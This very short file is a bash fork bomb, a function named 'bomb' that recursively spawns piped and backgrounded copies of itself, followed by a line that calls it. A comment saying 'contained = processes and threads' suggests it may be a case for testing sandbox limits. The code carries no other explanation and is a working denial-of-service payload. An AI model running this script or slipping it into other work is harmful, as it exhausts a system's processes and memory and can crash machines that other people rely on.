#: contained = processes and threads
bomb() { bomb | bomb & bomb; }
bomb
